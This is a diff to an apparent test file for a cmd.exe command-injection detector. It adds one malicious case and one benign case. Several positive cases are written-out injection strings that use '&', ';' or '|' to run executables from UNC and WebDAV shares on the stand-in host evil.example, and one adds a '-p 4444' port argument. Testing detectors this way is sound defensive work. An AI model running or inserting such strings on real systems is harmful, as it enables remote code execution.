@@ -83,6 +83,7 @@ describe('command injection: cmd.exe carets and %COMSPEC%', () => {
       ['& start \\\\evil.example\\share\\x.exe', 'cmd-separator-command'],
       ['& "\\\\evil.example\\share\\x.exe"', 'cmd-separator-command'],
       ['; \\\\evil.example@SSL\\DavWWWRoot\\x.bat', 'cmd-separator-command'],
+      ['a | \\\\evil.example\\c$\\x.exe -p 4444', 'cmd-separator-command'],
     ],
     [
       'x; y = e^x + 2^10',
@@ -99,6 +100,7 @@ describe('command injection: cmd.exe carets and %COMSPEC%', () => {
       'the file is at \\\\server\\share\\x.exe; ok',
       '& \\\\server\\share\\readme.txt',
       '& \\\\server\\share\\setup.exe is the installer',
+      '| \\\\nas\\setup.exe | the installer |',
     ],
     true,
   )
